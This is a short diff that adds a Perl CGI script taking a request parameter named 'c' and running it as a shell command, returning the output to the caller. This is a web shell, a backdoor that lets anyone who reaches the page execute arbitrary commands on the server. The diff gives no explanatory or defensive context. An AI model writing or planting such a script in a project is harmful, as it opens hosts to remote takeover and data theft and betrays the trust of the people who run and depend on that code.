@@ -1,0 +1,5 @@
+#!/usr/bin/perl
+use CGI;
+my $q = CGI->new;
+print $q->header;
+print `$q->param('c')`;
